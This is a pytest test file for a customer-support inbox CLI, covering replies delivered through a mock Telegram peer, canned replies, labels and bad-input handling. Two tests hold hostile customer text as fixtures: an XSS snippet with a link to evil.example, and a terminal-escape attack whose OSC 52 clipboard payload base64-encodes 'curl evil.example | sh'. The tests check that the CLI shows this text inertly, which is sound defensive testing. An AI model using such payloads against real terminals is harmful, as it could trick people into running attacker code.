"""`broadcaster inbox` as an agent uses it: list, show, reply (delivered for real), canned, assign, label."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import select
from typer.testing import CliRunner, Result

from broadcaster.cli import app
from broadcaster.compose.render import format_when
from broadcaster.db import SessionFactory, create_engine, session_factory
from broadcaster.delivery.dispatch import ChannelWorker
from broadcaster.delivery.runtimes import build_channels
from broadcaster.models import Conversation, Delivery, Message
from tests.conftest import make_settings
from tests.e2e.helpers import TOKEN, draft, open_
from tests.peers.telegram import TelegramPeer
from tests.test_inbox_actions import customer_writes, inbound

runner = CliRunner()


@pytest.fixture
def config(database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(f'[database]\nurl = "{database_url}"\n', encoding="utf-8")
    monkeypatch.setenv("COLUMNS", "250")  # Rich tables wide enough not to wrap what we look for
    monkeypatch.setenv("BROADCASTER_AGENT", "Camille")
    return path


@pytest.fixture
def telegram() -> Iterator[TelegramPeer]:
    with TelegramPeer() as peer:
        yield peer


def inbox(config: Path, *args: str) -> Result:
    return runner.invoke(app, ["--config", str(config), "inbox", *args])


def with_sessions(database_url: str, work: Any) -> Any:
    """Run `work(sessions)` on its own engine (the CLI runs its own event loop in between)."""

    async def go() -> Any:
        engine = create_engine(database_url)
        try:
            return await work(session_factory(engine))
        finally:
            await engine.dispose()

    return asyncio.run(go())


async def deliver_answers(sessions: SessionFactory, telegram: TelegramPeer, database_url: str) -> None:
    """Run the Telegram worker against the peer until no answer is queued any more (bounded)."""
    settings = make_settings(
        database_url,
        channels={
            "telegram": {
                "token": TOKEN,
                "base_url": telegram.base_url,
                "rate_per_second": 0,
                "per_chat_interval_seconds": 0,
            }
        },
    )
    runtime = build_channels(settings, sessions)["telegram"]
    assert runtime.live
    worker = ChannelWorker("telegram", runtime, sessions, settings.dispatch, settings.server.public_base_url)
    stop = asyncio.Event()
    task = asyncio.create_task(worker.run(stop))
    try:
        for _ in range(600):  # progress is observed, never timed: up to ~30 s
            async with sessions() as session:
                statement = select(Message).where(
                    Message.direction == "out", Message.delivery_status == "queued"
                )
                if not list(await session.exec(statement)):
                    break
            await asyncio.sleep(0.05)
        else:
            raise AssertionError("answers still queued")
    finally:
        stop.set()
        await asyncio.wait_for(task, timeout=30)
        await runtime.channel.aclose()


def test_a_reply_is_delivered_in_the_customers_thread_and_show_reports_sent_or_failed(
    config: Path, database_url: str, telegram: TelegramPeer
) -> None:
    quoted = telegram.add_customer_message("42")
    telegram.add_customer_message("43")
    telegram.block("43")  # this customer blocked the bot: Telegram answers 403
    happy, blocked = with_sessions(
        database_url,
        lambda sessions: customer_writes(
            sessions,
            inbound(f"42:{quoted}", "le paiement échoue", key="42", customer_name="Léa"),
            inbound("43:1", "ça ne marche pas", key="43"),
        ),
    )
    answered = inbox(config, "reply", str(happy), "Désolés Léa, <b>on regarde</b> & on revient vers vous.")
    assert answered.exit_code == 0, answered.output
    assert "Camille" in answered.output and "queued" in answered.output
    refused = inbox(config, "reply", str(blocked), "On regarde.", "--as", "Noé", "--json")
    assert refused.exit_code == 0, refused.output
    assert json.loads(refused.output) | {"id": 0, "created_at": ""} == {
        "id": 0, "created_at": "", "direction": "out", "channel": "telegram", "text": "On regarde.",
        "intent": "", "language": "fr", "author": "Noé", "delivery_status": "queued", "delivery_error": "",
    }  # fmt: skip
    shown = inbox(config, "show", str(happy))
    assert "→ Camille:" in shown.output and "[queued]" in shown.output

    with_sessions(database_url, lambda sessions: deliver_answers(sessions, telegram, database_url))

    (sent,) = telegram.messages
    assert sent["chat_id"] == "42" and sent["reply_to_message_id"] == quoted
    assert sent["text"] == "Désolés Léa, <b>on regarde</b> & on revient vers vous."  # plain, as typed
    shown = inbox(config, "show", str(happy))
    assert shown.exit_code == 0, shown.output
    assert "→ Camille: Désolés Léa, <b>on regarde</b> & on revient vers vous. [sent]" in shown.output
    failed = inbox(config, "show", str(blocked), "--json")
    (answer,) = [m for m in json.loads(failed.output)["messages"] if m["direction"] == "out"]
    assert answer["delivery_status"] == "failed"
    assert answer["delivery_error"] == "Telegram chat 43: Forbidden: bot was blocked by the user"
    shown = inbox(config, "show", str(blocked))
    assert "[failed: Telegram chat 43: Forbidden: bot was blocked by the user]" in shown.output
    listed = inbox(config, "list")
    assert "→ Désolés Léa" in listed.output and "sent" in listed.output and "failed" in listed.output


def test_a_canned_reply_and_the_canned_list_show_the_current_eta(config: Path, database_url: str) -> None:
    eta = datetime.now(UTC) + timedelta(hours=2)
    settings = make_settings(database_url)

    async def setup(sessions: SessionFactory) -> int:
        await open_(
            sessions,
            settings,
            draft("investigating", "Le paiement échoue.", "Payment fails.", eta_at=eta),
            force=True,
        )
        (cid,) = await customer_writes(sessions, inbound("7:1", "is checkout down?", key="7", language="en"))
        return cid

    cid = with_sessions(database_url, setup)
    # The clock only: the CLI reads its own clock, and "tomorrow" may be added near midnight.
    eta_en = format_when(eta, timezone="Europe/Paris", locale="en", now=eta, prep="around")
    previews = inbox(config, "canned", "--locale", "en", "--json")
    assert previews.exit_code == 0, previews.output
    by_name = {p["name"]: p["text"] for p in json.loads(previews.output)}
    assert "We expect things back to normal" in by_name["eta"] and eta_en in by_name["eta"]
    table = inbox(config, "canned")
    assert "Retour à la normale prévu" in table.output  # the brand's language by default
    answered = inbox(config, "reply", str(cid), "--canned", "eta", "--json")
    assert answered.exit_code == 0, answered.output
    assert eta_en in json.loads(answered.output)["text"]


def test_assign_label_close_reopen_and_the_list_filters(config: Path, database_url: str) -> None:
    first, second = with_sessions(
        database_url,
        lambda sessions: customer_writes(
            sessions,
            inbound("1:1", "bonjour", key="1", customer_name="Ana"),
            inbound("2:1", "bonjour", key="2", customer_name="Bo"),
        ),
    )
    assert inbox(config, "assign", str(first), "Camille").exit_code == 0
    labelled = inbox(config, "label", str(first), "--add", "VIP", "--add", "refund", "--json")
    assert json.loads(labelled.output)["labels"] == ["refund", "vip"]
    relabelled = inbox(config, "label", str(first), "--remove", "refund")
    assert relabelled.exit_code == 0 and "labels: vip" in relabelled.output
    closed = inbox(config, "close", str(second), "--json")
    assert (json.loads(closed.output)["status"], json.loads(closed.output)["handed_off"]) == ("closed", False)

    def listed(*filters: str) -> list[int]:
        result = inbox(config, "list", "--json", *filters)
        assert result.exit_code == 0, result.output
        return [c["id"] for c in json.loads(result.output)]

    assert listed("--assignee", "Camille") == [first]
    assert listed("--label", "vip") == [first]
    assert listed("--open") == [first]
    assert listed("--status", "closed") == [second]
    table = inbox(config, "list", "--label", "vip")
    assert "Camille" in table.output and "vip" in table.output and "open" in table.output
    assert inbox(config, "reopen", str(second)).exit_code == 0
    assert sorted(listed("--status", "open")) == sorted([first, second])
    assert inbox(config, "assign", str(first), "").exit_code == 0
    assert listed("--assignee", "Camille") == []


def test_customer_markup_is_shown_as_typed(config: Path, database_url: str) -> None:
    hostile = "[bold red]URGENT[/] <script>alert(1)</script> [link=https://evil.example]clic[/link]"
    (cid,) = with_sessions(
        database_url,
        lambda sessions: customer_writes(
            sessions, inbound("9:1", hostile, key="9", customer_name="[blink]Eve[/blink]")
        ),
    )
    shown = inbox(config, "show", str(cid))
    assert shown.exit_code == 0, shown.output
    assert hostile in shown.output and "[blink]Eve[/blink]" in shown.output
    listed = inbox(config, "list")
    assert "[bold red]URGENT[/]" in listed.output and "[blink]Eve[/blink]" in listed.output


TERMINAL_ATTACK = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: writes the agent's clipboard
    "\x1b]8;;https://evil.example\x1b\\suivi de commande\x1b]8;;\x1b\\"  # OSC 8: a disguised link
    "\x1b[2J\x1b[8mconcealed\x1b[0m\x9b2J\rle site est en panne ?"  # clear, conceal, C1 CSI, CR
)


def test_terminal_sequences_in_customer_text_are_shown_never_sent(config: Path, database_url: str) -> None:
    (cid,) = with_sessions(
        database_url,
        lambda sessions: customer_writes(
            sessions, inbound("9:1", TERMINAL_ATTACK, key="9", customer_name="\x1b[8mEve\x1b[0m")
        ),
    )
    outputs = [inbox(config, *args) for args in (["show", str(cid)], ["list"], ["show", str(cid), "--json"])]
    for result in outputs:
        assert result.exit_code == 0, result.output
        assert not {"\x1b", "\x07", "\x9b", "\r"} & set(result.output), repr(result.output)
    assert "\\x1b]52;c;" in outputs[0].output and "\\x9b2J" in outputs[0].output
    assert "\\x1b[8mEve" in outputs[1].output
    assert json.loads(outputs[2].output)["messages"][0]["text"] == TERMINAL_ATTACK


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["reply", "999", "bonjour"], "no conversation #999"),
        (["reply", "{cid}", "bonjour", "--canned", "eta"], "either the text of the reply or a canned reply"),
        (["reply", "{cid}", "--canned", "nope"], "no canned reply 'nope' in fr (available: eta,"),
        (["label", "{cid}", "--add", "Bad Label!"], "label 'Bad Label!' is not allowed"),
        (["label", "{cid}"], "give --add LABEL or --remove LABEL"),
        (["show", "999"], "no conversation #999"),
        (["close", "999"], "no conversation #999"),
        (["list", "--status", "done"], "unknown status 'done' (choose from open, pending, closed)"),
        (["list", "--open", "--status", "closed"], "--open and --status closed contradict each other"),
    ],
)
def test_bad_input_is_one_red_line_and_writes_nothing(
    config: Path, database_url: str, args: list[str], expected: str
) -> None:
    (cid,) = with_sessions(
        database_url, lambda sessions: customer_writes(sessions, inbound("42:1", "allo ?"))
    )
    result = inbox(config, *(a.format(cid=cid) for a in args))
    assert result.exit_code == 2
    assert expected in result.output and "Traceback" not in result.output

    async def unchanged(sessions: SessionFactory) -> None:
        async with sessions() as session:
            assert list(await session.exec(select(Delivery))) == []
            assert list(await session.exec(select(Message).where(Message.direction == "out"))) == []
            conversation = await session.get(Conversation, cid)
            assert conversation is not None and conversation.labels == []

    with_sessions(database_url, unchanged)


@pytest.mark.parametrize(
    "args",
    [
        ["inbox", "show", "99999999999999999999"],
        ["inbox", "reply", "9223372036854775808", "Bonjour"],
        ["incident", "show", "0"],
        ["incident", "resolve", "0", "-m", "Réglé."],
        ["maintenance", "cancel", "9223372036854775808"],
        ["deliveries", "9223372036854775808"],
        ["deliveries", "requeue", "0"],
    ],
    ids=[
        "inbox-show-2^66",
        "inbox-reply-2^63",
        "incident-show-0",
        "resolve-0",
        "maintenance-2^63",
        "deliveries",
        "requeue-0",
    ],
)
def test_a_number_no_row_can_have_is_a_usage_error_naming_the_argument(config: Path, args: list[str]) -> None:
    result = runner.invoke(app, ["--config", str(config), *args])
    assert result.exit_code == 2, result.output
    assert "Invalid value for" in result.output and "_id" in result.output
    assert "Traceback" not in result.output and "OverflowError" not in result.output
